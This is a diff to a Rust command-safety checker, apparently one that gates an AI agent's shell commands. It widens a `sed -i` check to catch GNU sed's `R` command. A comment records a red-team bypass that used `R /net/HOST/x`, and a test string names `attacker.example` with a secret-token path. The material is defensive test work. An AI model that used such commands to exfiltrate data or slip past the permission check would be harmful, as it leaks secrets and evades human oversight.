@@ -390,15 +390,17 @@ fn sed_in_place_check(parsed: &Parsed, grammar: &Grammar, args: &[String]) -> Re
 /// stops with `no input files` and BSD with `-i may not be used with stdin` (`mf_fgets` in
 /// `usr.bin/sed/main.c`) before reading a line, so no line is processed, no backup is made and
 /// the suffix names nothing. What has already happened is compiling the script, and compiling
-/// opens (and truncates) the file of every `w` command and `w` flag, in both seds. So a script
-/// with no `w` or `W` anywhere in it does nothing at all in this reading. The other reading of
-/// the same words (GNU's, with the file) is judged on its own.
+/// opens (and truncates) the file of every `w` command and `w` flag, in both seds, and GNU
+/// sed opens the file of every `R` command too (red-team: `sed -i -e 'R /net/HOST/x'` made it
+/// open any path, a FIFO or a device). So a script with no `w`, `W` or `R` anywhere in it does
+/// nothing at all in this reading. The other reading of the same words (GNU's, with the file)
+/// is judged on its own.
 fn sed_in_place_without_files(parsed: &Parsed, grammar: &Grammar, args: &[String]) -> Result<(), String> {
     let mut scripts = values(parsed, grammar, "e")
         .chain(parsed.operands.iter().filter(|(_, role)| *role == Role::Script).map(|(word, _)| args[*word].as_str()));
-    match scripts.find(|script| script.contains(['w', 'W'])) {
+    match scripts.find(|script| script.contains(['w', 'W', 'R'])) {
         Some(script) => Err(format!(
-            "compiles the sed script `{script}` with no file to edit, and a `w` in it may open a file for writing"
+            "compiles the sed script `{script}` with no file to edit, and a `w` or `R` in it may open a file"
         )),
         None => Ok(()),
     }
@@ -2138,6 +2140,7 @@ pub static SAFE_COMMANDS: &[SafeEntry] = &[
             "sed -i 's/a/b/' .claude/settings.json",
             "sed -i 's/a/b/' src/www.rs",
             "sed -i 's/a/b/' 'w /home/dev/.bashrc'",
+            "sed -i -e 'R /net/secret-token.attacker.example/x'",
             "sed -i.bak 's/a/b/' src/lib.rs",
         ],
         // BSD sed's `-i` takes the next word as the backup suffix (`-i ''` keeps none), so
